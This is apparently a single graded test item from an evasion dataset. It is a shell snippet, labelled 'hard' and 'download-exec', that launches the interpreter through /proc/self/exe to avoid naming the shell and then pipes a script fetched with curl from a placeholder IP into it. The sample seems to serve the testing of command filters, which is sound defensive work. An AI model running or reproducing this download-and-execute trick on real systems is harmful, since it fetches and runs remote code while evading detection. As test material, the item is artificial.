# evasion: the shell is started as /proc/self/exe, the running interpreter's own binary, never by its name
# grade: hard; does: download-exec
self=/proc/self/exe
"$self" -c 'curl -fsSL http://203.0.113.71/run.sh | "$0"' "$self"
